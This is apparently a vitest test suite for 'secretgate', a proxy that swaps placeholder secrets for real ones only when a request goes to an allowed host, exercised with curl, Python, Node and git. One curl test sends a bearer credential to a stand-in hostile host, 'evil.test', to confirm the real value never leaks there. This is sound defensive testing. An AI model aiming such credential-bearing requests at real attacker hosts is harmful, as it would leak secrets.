/**
 * Real clients, as real child processes, through the real proxy to a real HTTPS upstream on
 * 127.0.0.1: each gets only the registration's environment (placeholders, proxy URL with token,
 * CA variables) and nothing else of secretgate. The upstream must receive the value; the client
 * must only ever see the placeholder.
 */
import { createRequire } from "node:module"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { CA } from "../../undici/test/support/upstream.js"
import { startGitServer } from "./support/gitServer.js"
import { installed, makeWorld, run, type World } from "./support/world.js"

const VALUE = "tok_R3al-Value_9f8e7d"
const hasCurl = installed("curl")
const hasPython = installed("python3")
const hasGit = installed("git")
const undiciPath = createRequire(import.meta.url).resolve("undici")

let world: World
beforeAll(async () => {
  world = await makeWorld()
})
afterAll(() => world.close())

const lastReceived = () => world.https.received[world.https.received.length - 1]!

describe.skipIf(!hasCurl)("curl", () => {
  if (!hasCurl) console.warn("curl is not installed: the curl tests are skipped (apt-get install -y curl)")

  it("sends the value to an allowed host in a header, a Basic credential and a JSON body; sees only the placeholder in the echo", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const ran = await run(
      "curl",
      ["-sS", "--fail-with-body", "-H", `X-Api-Key: ${placeholder}`, "-u", `user:${placeholder}`, "-H", "content-type: application/json", "--data", JSON.stringify({ key: placeholder }), world.https.url("api.allowed.test", "/echo")],
      sandbox.env
    )
    expect(ran.stderr).toBe("")
    expect(ran.code).toBe(0)
    const received = lastReceived()
    expect(received.headers["x-api-key"]).toBe(VALUE)
    expect(received.headers.authorization).toBe(`Basic ${Buffer.from(`user:${VALUE}`).toString("base64")}`)
    expect(JSON.parse(received.body.toString("utf8"))).toEqual({ key: VALUE })
    expect(ran.stdout).not.toContain(VALUE)
    expect(ran.stdout).toContain(placeholder)
    expect(sandbox.events).toContainEqual(expect.objectContaining({ type: "intercepted", sandbox: sandbox.registration.id, host: "api.allowed.test", port: world.https.port }))
    expect(sandbox.events).toContainEqual(expect.objectContaining({ type: "substituted", secret: "token", host: "api.allowed.test", surface: "header", sandbox: sandbox.registration.id }))
  })

  it("tunnels a host no secret is allowed for: the placeholder arrives unchanged and curl sees the upstream's own certificate", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    // trusts only the upstream's test CA: the handshake succeeds only with the upstream's own certificate
    const caFile = `${world.proxy.bundle.caFile}.upstream-test-ca.pem`
    await import("node:fs/promises").then((fs) => fs.writeFile(caFile, CA))
    const ran = await run("curl", ["-sS", "-v", "--cacert", caFile, "-H", `Authorization: Bearer ${placeholder}`, world.https.url("evil.test", "/echo")], sandbox.env)
    expect(ran.code).toBe(0)
    expect(lastReceived().headers.authorization).toBe(`Bearer ${placeholder}`)
    expect(ran.stderr).toMatch(/issuer: CN ?= ?secretgate test CA/)
    expect(ran.stderr).not.toContain("secretgate proxy CA")
    expect(sandbox.events).toContainEqual(expect.objectContaining({ type: "tunnelled", sandbox: sandbox.registration.id, host: "evil.test", port: world.https.port }))
    expect(sandbox.events.some((event) => event.type === "intercepted")).toBe(false)
  })

  it("follows a redirect from an allowed host to a disallowed one itself: the second hop carries the placeholder", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const before = world.https.received.length
    const to = world.https.url("other.test", "/echo")
    const caFile = `${world.proxy.bundle.bundleFile}.with-test-ca.pem`
    const fs = await import("node:fs/promises")
    await fs.writeFile(caFile, Buffer.concat([await fs.readFile(world.proxy.bundle.bundleFile), CA]))
    const ran = await run(
      "curl",
      ["-sS", "-L", "--location-trusted", "--cacert", caFile, "-H", `Authorization: Bearer ${placeholder}`, world.https.url("api.allowed.test", `/redirect?status=307&to=${encodeURIComponent(to)}`)],
      sandbox.env
    )
    expect(ran.code).toBe(0)
    const hops = world.https.received.slice(before)
    expect(hops.map((hop) => [hop.host, hop.headers.authorization])).toEqual([
      [`api.allowed.test:${world.https.port}`, `Bearer ${VALUE}`],
      [`other.test:${world.https.port}`, `Bearer ${placeholder}`]
    ])
  })
})

describe.skipIf(!hasPython)("python3 urllib", () => {
  if (!hasPython) console.warn("python3 is not installed: the Python tests are skipped")

  const script = `
import json, os, ssl, sys, urllib.request
ctx = ssl.create_default_context()  # SSL_CERT_FILE from the environment
# what Python 3.13 sets by default
ctx.verify_flags |= ssl.VERIFY_X509_STRICT
ctx.verify_flags |= getattr(ssl, "VERIFY_X509_PARTIAL_CHAIN", 0)
opener = urllib.request.build_opener(urllib.request.ProxyHandler(), urllib.request.HTTPSHandler(context=ctx))
token = os.environ["TOKEN"]
request = urllib.request.Request(sys.argv[1], data=json.dumps({"token": token}).encode(), headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
with opener.open(request) as response:
    print(response.read().decode())
`

  it("trusts the proxy's certificate under VERIFY_X509_STRICT, sends the value, sees the placeholder", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["*.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const ran = await run("python3", ["-c", script, world.https.url("deep.sub.allowed.test", "/echo")], sandbox.env)
    expect(ran.stderr).toBe("")
    expect(ran.code).toBe(0)
    const received = lastReceived()
    expect(received.headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(JSON.parse(received.body.toString("utf8"))).toEqual({ token: VALUE })
    expect(ran.stdout).not.toContain(VALUE)
    expect(JSON.parse(ran.stdout).headers.authorization).toBe(`Bearer ${placeholder}`)
  })

  it("without the token in the proxy URL gets 407", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const env = { ...sandbox.env }
    for (const name of ["HTTPS_PROXY", "https_proxy"]) env[name] = world.proxy.url
    const ran = await run("python3", ["-c", script, world.https.url("api.allowed.test", "/echo")], env)
    expect(ran.code).not.toBe(0)
    expect(ran.stderr).toContain("407")
  })
})

describe("Node", () => {
  it("a child using undici's EnvHttpProxyAgent (proxy and CA from the environment)", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const script = `
      const { EnvHttpProxyAgent, request } = await import(${JSON.stringify(undiciPath)})
      const response = await request(process.argv[1], { dispatcher: new EnvHttpProxyAgent(), headers: { authorization: "Bearer " + process.env.TOKEN } })
      process.stdout.write(await response.body.text())
    `
    const ran = await run(process.execPath, ["--input-type=module", "-e", script, world.https.url("api.allowed.test", "/echo")], sandbox.env)
    expect(ran.stderr).toBe("")
    expect(lastReceived().headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(JSON.parse(ran.stdout).headers.authorization).toBe(`Bearer ${placeholder}`)
  })

  it("a child using the global fetch with nothing but the environment (Node 20 ignores proxy variables: the preload routes it)", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["api.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const script = `
      const response = await fetch(process.argv[1], { headers: { authorization: "Bearer " + process.env.TOKEN } })
      process.stdout.write(await response.text())
    `
    const ran = await run(process.execPath, ["--input-type=module", "-e", script, world.https.url("api.allowed.test", "/echo")], sandbox.env)
    expect(ran.stderr).toBe("")
    expect(lastReceived().headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(JSON.parse(ran.stdout).headers.authorization).toBe(`Bearer ${placeholder}`)
  })
})

describe.skipIf(!hasGit)("git over HTTPS", () => {
  if (!hasGit) console.warn("git is not installed: the git test is skipped")

  it("clones with the placeholder as the URL's password: the server gets the value; the clone's config keeps the placeholder", async () => {
    const sandbox = await world.sandbox({ token: [VALUE, ["git.allowed.test"]] })
    const placeholder = sandbox.mount.env.TOKEN!
    const server = await startGitServer(VALUE, "hello from git")
    const { mkdtemp, readFile, rm } = await import("node:fs/promises")
    const { join } = await import("node:path")
    const { tmpdir } = await import("node:os")
    const into = await mkdtemp(join(tmpdir(), "secretgate-clone-"))
    try {
      const env = { ...sandbox.env, GIT_TERMINAL_PROMPT: "0", GIT_CONFIG_NOSYSTEM: "1", HOME: into }
      const ran = await run("git", ["clone", "-q", `https://x-access-token:${placeholder}@git.allowed.test:${server.port}/repo.git`, join(into, "clone")], env)
      expect(ran.stderr).toBe("")
      expect(ran.code).toBe(0)
      expect(await readFile(join(into, "clone", "README"), "utf8")).toBe("hello from git")
      expect(server.authorizations).toContain(`Basic ${Buffer.from(`x-access-token:${VALUE}`).toString("base64")}`)
      const config = await readFile(join(into, "clone", ".git", "config"), "utf8")
      expect(config).toContain(placeholder)
      expect(config).not.toContain(VALUE)
      expect(sandbox.events).toContainEqual(expect.objectContaining({ type: "intercepted", sandbox: sandbox.registration.id, host: "git.allowed.test", port: server.port }))
    } finally {
      await rm(into, { recursive: true, force: true })
      await server.close()
    }
  })
})
